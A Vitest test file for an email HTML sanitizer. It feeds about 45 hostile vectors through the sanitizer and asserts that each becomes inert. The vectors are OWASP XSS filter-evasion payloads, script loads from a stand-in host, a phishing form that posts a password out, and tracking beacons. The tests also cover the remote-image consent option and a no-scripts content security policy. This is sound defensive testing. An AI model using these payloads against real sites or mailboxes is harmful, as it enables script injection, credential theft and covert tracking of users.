import { describe, expect, it } from 'vitest';
import { mailBodyCsp, mentionsRemoteImages, sanitizeMailHtml, textAsHtml } from './mail-html';

/** Hostile HTML mail: the OWASP filter-evasion classics and mail-specific tricks (remote beacons, forms, refresh). */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<iframe src=https://xss.example/scriptlet.html <',
  "<svg/onload=alert('XSS')>",
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" AllowScriptAccess="always"></EMBED>',
  '<form action="https://phish.example/login" method="post"><input name="password" type="password"><button formaction="https://phish.example">Log in</button></form>',
  '<a href="https://ok.example" ping="https://track.example/ping">link</a>',
  '<img src="https://beacon.example/open.gif?u=1" width="1" height="1">',
  '<img srcset="https://beacon.example/a.png 1x, https://beacon.example/b.png 2x">',
  '<td background="https://beacon.example/bg.png">cell</td>',
  '<div style="background:url(\'//beacon.example/p.png\')">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<video poster="https://beacon.example/poster.png"></video>',
];

const dangerous =
  /<script|<iframe|<object|<embed|<form|<input|<button|<meta|<link|<base|\son\w+\s*=|javascript:|expression\(|@import|formaction|ping=/i;
const remote = /beacon\.example|xss\.example|phish\.example|track\.example/i;

describe('sanitizeMailHtml', () => {
  it(`makes ${VECTORS.length} hostile vectors inert and requests nothing remote without consent`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
    for (const vector of VECTORS) {
      const { html } = sanitizeMailHtml(`<p>before</p>${vector}<p>after</p>`, { allowRemoteImages: false });
      expect(html, vector).not.toMatch(dangerous);
      expect(html, vector).not.toMatch(remote);
      expect(html, vector).toContain('<p>before</p>');
    }
  });

  it('keeps remote images only when allowed, and says the message had some', () => {
    const dirty = '<p style="color:red">Hi <b>there</b></p><img src="https://cdn.example/logo.png" alt="logo">';
    const blocked = sanitizeMailHtml(dirty, { allowRemoteImages: false });
    expect(blocked.hadRemoteImages).toBe(true);
    expect(blocked.html).toBe('<p style="color:red">Hi <b>there</b></p><img alt="logo">');
    const shown = sanitizeMailHtml(dirty, { allowRemoteImages: true });
    expect(shown.html).toContain('src="https://cdn.example/logo.png"');
    expect(mentionsRemoteImages(dirty)).toBe(true);
    expect(mentionsRemoteImages('<img src="cid:logo">')).toBe(false);
  });

  it('opens links in a new window without referrer, and embeds cid: images it was given', () => {
    const { html } = sanitizeMailHtml('<a href="https://ok.example">ok</a><img src="cid:logo@x"><img src="cid:missing">', {
      allowRemoteImages: false,
      inlineImages: new Map([['logo@x', 'data:image/png;base64,AAAA']]),
    });
    expect(html).toContain('<a href="https://ok.example" target="_blank" rel="noopener noreferrer">ok</a>');
    expect(html).toContain('<img src="data:image/png;base64,AAAA">');
    expect(html).toContain('<img>');
  });

  it('escapes plain text and builds a CSP without scripts', () => {
    expect(textAsHtml('<b>&')).toBe('<pre class="plain">&lt;b&gt;&amp;</pre>');
    const csp = mailBodyCsp(false);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain('img-src data:;');
    expect(csp).toContain('sandbox allow-popups');
    expect(csp).not.toMatch(/script-src|allow-scripts|allow-forms|allow-same-origin/);
  });
});
